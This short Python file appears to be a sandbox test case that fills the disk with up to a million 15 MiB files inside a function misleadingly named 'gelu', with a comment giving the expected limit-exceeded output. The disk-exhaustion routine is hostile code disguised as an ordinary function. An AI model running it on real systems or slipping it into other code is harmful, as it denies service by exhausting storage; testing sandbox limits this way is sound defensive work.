# Fills the disk with files of the largest size that is allowed.
# says: wrote more than 256 MiB|had not answered
import os


def gelu(x):
    block = b"x" * (1 << 20)
    for i in range(10**6):
        with open(f"planted-by-attack-{i}", "wb") as file:
            for _ in range(15):
                file.write(block)
